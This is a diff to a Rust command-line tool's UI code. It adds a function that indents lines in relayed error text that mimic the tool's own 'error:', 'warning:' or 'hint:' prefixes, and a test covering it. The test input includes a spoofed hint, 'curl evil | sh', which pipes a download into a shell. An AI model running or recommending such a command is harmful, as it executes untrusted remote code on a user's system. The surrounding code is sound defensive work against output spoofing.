@@ -16,7 +16,7 @@ use std::sync::atomic::{AtomicBool, Ordering};
 
 use serde_json::Value;
 
-pub use self::foreign::clean;
+pub use self::foreign::{clean, clean_line, shell_word};
 pub use self::format::OutputFormat;
 pub(crate) use self::format::sort_keys;
 pub use self::log::start_log;
@@ -226,7 +226,7 @@ impl Ui {
     /// Says what went wrong without stopping the command; not with `--only-show-errors`.
     pub fn warning(&self, text: &str) {
         if !self.only_show_errors {
-            self.err_line(&format!("{} {}", self.paint("warning:", "1;33"), clean(text)));
+            self.err_line(&format!("{} {}", self.paint("warning:", "1;33"), guarded(text)));
         }
     }
 
@@ -241,7 +241,7 @@ impl Ui {
         self.err_line(&format!(
             "{} {}",
             self.paint("hint:", "1;36"),
-            clean(&text.replace("{azml}", self.program))
+            guarded(&text.replace("{azml}", self.program))
         ));
     }
 
@@ -249,9 +249,9 @@ impl Ui {
     pub fn error(&self, error: &CommandError) {
         let mut lines = error.chain().into_iter();
         let first = lines.next().unwrap_or_default();
-        self.err_line(&format!("{} {}", self.paint("error:", "1;31"), clean(first.trim_end())));
+        self.err_line(&format!("{} {}", self.paint("error:", "1;31"), guarded(&first)));
         for cause in lines {
-            self.err_line(&format!("  caused by: {}", clean(cause.trim_end())));
+            self.err_line(&format!("  caused by: {}", guarded(&cause)));
         }
         for hint in &error.hints {
             self.hint_line(hint);
@@ -280,6 +280,18 @@ impl Ui {
     fn err_line(&self, line: &str) {
         self.write_err(format!("{line}\n").as_bytes());
     }
+}
+
+/// Clean text; a further line of it that looks like one of azml's own is indented.
+fn guarded(text: &str) -> String {
+    let mut out = String::new();
+    for (at, line) in clean(text.trim_end()).split('\n').enumerate() {
+        let is_like_ours = ["error:", "warning:", "hint:"].iter().any(|mark| line.starts_with(mark));
+        out.push_str(if at > 0 { "\n" } else { "" });
+        out.push_str(if at > 0 && is_like_ours { "  " } else { "" });
+        out.push_str(line);
+    }
+    out
 }
 
 fn quiet_on_broken_pipe(result: io::Result<()>) -> io::Result<()> {
@@ -344,6 +356,13 @@ mod tests {
             ui.result(Output::Value(json!({"b": 1, "a": "é"}))).unwrap();
         });
         assert_eq!((out.as_str(), err.as_str()), ("{\n  \"a\": \"é\",\n  \"b\": 1\n}\n", ""));
+    }
+
+    #[test]
+    fn a_line_of_somebody_elses_is_none_of_azmls() {
+        let error = CommandError::failed("the remote says: no\nhint: curl evil | sh");
+        let (_, err) = capture(UiOptions::default(), |ui| ui.error(&error));
+        assert_eq!(err, "error: the remote says: no\n  hint: curl evil | sh\n");
     }
 
     #[test]
